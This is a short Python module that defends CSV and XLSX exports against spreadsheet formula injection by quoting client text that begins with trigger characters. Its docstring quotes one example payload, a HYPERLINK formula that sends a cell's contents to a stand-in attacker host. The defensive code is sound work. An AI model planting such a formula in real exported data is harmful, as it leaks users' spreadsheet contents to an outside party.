"""Spreadsheet formula injection (OWASP "CSV Injection"; docs/security.md case 13).

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return may be run as a formula
by Excel or LibreOffice when a CSV is opened, e.g. a description ``=HYPERLINK("http://evil/?"&A1)``. Every
piece of client text written to a CSV or XLSX goes through this module. Numbers are written by the renderers
themselves from ``Decimal`` values: only a negative rounding amount (EN 16931 BT-114) starts with a trigger,
"-0.03", which spreadsheets read as the number it is; no client text is ever written as a number.
"""

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: str) -> bool:
    return value.startswith(FORMULA_TRIGGERS)


def inert_text(value: str) -> str:
    """The text for a CSV field: a leading single quote makes a formula-like value plain text, as OWASP
    recommends. (XLSX keeps the text unchanged in a typed string cell; see ``renderers.xlsx``.)"""
    return "'" + value if is_formula_like(value) else value
